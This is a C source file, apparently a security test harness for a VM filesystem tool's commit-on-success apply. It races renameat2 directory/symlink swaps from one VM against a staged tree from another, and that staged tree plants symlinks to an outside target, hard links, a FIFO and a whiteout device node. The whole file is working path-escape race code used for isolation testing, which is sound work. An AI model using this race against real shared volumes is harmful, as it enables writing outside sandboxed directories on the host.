/* A staged mount's apply (hvfs run --commit-on-success), raced from a second VM.
 *
 * commit_race TRIES SECONDS swap VOLUME N TARGET
 *   The racer, in a VM that binds the host directory itself: VOLUME/dK (K < N) are
 *   directories and VOLUME/lK symlinks to TARGET (../outside: next to the volume on the
 *   host); it exchanges each pair (renameat2 RENAME_EXCHANGE) again and again until its
 *   time is spent, so that the apply of the other VM's staged tree meets a symlink where
 *   it expects a directory. Prints "ready" once the names are in place.
 *   Counters: "swaps", "swap_errno".
 *
 * commit_race TRIES SECONDS stage VOLUME N M TARGET
 *   The staged VM (its VOLUME an overlay of the same host directory): writes VOLUME/dK/fJ
 *   (J < M) through whatever dK is at that moment, and a crafted tree beside them: sK
 *   symlinks to TARGET, hard links, a FIFO, a whiteout (char 0:0) named like a decoy,
 *   then exits 0 so that the staged tree is applied.
 *   Counters: "tries", "staged" (files written), "refused" (a write that failed).
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static int swap(const char *volume, int n, const char *target) {
    char dir[4096], link[4096];
    long swaps = 0, errors = 0;
    for (int k = 0; k < n; k++) {
        snprintf(dir, sizeof dir, "%s/d%d", volume, k);
        snprintf(link, sizeof link, "%s/l%d", volume, k);
        mkdir(dir, 0755);
        symlink(target, link);
    }
    printf("ready\n");
    fflush(stdout);
    for (long i = 0; attack_more(i); i++) {
        int k = i % n;
        snprintf(dir, sizeof dir, "%s/d%d", volume, k);
        snprintf(link, sizeof link, "%s/l%d", volume, k);
        if (syscall(SYS_renameat2, AT_FDCWD, dir, AT_FDCWD, link, RENAME_EXCHANGE) == 0)
            swaps++;
        else
            errors++;
    }
    printf("{\"swaps\": %ld, \"swap_errno\": %ld}\n", swaps, errors);
    return 0;
}

static int stage(const char *volume, int n, int m, const char *target) {
    char path[4096], other[4096];
    long tries = 0, staged = 0, refused = 0;
    for (int k = 0; k < n; k++) {
        for (int j = 0; j < m && attack_more(tries); j++, tries++) {
            snprintf(path, sizeof path, "%s/d%d/f%d", volume, k, j);
            int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
            if (fd < 0) {
                refused++;
                continue;
            }
            if (write(fd, "staged\n", 7) == 7)
                staged++;
            close(fd);
        }
        snprintf(path, sizeof path, "%s/s%d", volume, k);
        symlink(target, path);
        snprintf(other, sizeof other, "%s/h%d", volume, k);
        snprintf(path, sizeof path, "%s/d%d/f0", volume, k);
        link(path, other);
    }
    snprintf(path, sizeof path, "%s/fifo", volume);
    mkfifo(path, 0644);
    snprintf(path, sizeof path, "%s/victim", volume);
    mknod(path, S_IFCHR | 0644, makedev(0, 0));
    printf("{\"tries\": %ld, \"staged\": %ld, \"refused\": %ld}\n", tries, staged, refused);
    return 0;
}

int main(int argc, char **argv) {
    attack_begin(argc, argv);
    if (argc >= 7 && strcmp(argv[3], "swap") == 0)
        return swap(argv[4], atoi(argv[5]), argv[6]);
    if (argc >= 8 && strcmp(argv[3], "stage") == 0)
        return stage(argv[4], atoi(argv[5]), atoi(argv[6]), argv[7]);
    fprintf(stderr, "usage: %s TRIES SECONDS swap VOLUME N TARGET | stage VOLUME N M TARGET\n", argv[0]);
    return 2;
}
